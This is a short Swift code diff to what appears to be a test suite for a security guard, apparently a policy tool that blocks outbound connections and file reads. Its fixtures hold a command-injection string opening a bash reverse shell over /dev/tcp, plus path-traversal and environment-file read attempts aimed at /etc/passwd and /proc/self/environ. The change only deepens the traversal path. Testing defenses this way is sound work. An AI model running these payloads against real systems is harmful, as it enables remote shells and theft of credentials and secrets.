@@ -34,7 +34,8 @@ enum GuardScenario {
         "x; bash -i >& /dev/tcp/127.0.0.1/9 0>&1",
     ]
 
-    static let fileAttacks = ["/proc/self/environ", "../../../../../../../etc/passwd"]
+    /// Deep enough to reach / from a checkout at any depth.
+    static let fileAttacks = ["/proc/self/environ", String(repeating: "../", count: 24) + "etc/passwd"]
 
     static func environment(_ mode: String, listener: LoopbackListener) -> [String: String] {
         ["PALISADE_POLICY": policy(mode), "BEACON_ADDRESS": LoopbackListener.forbiddenAddress, "BEACON_PORT": String(listener.port)]
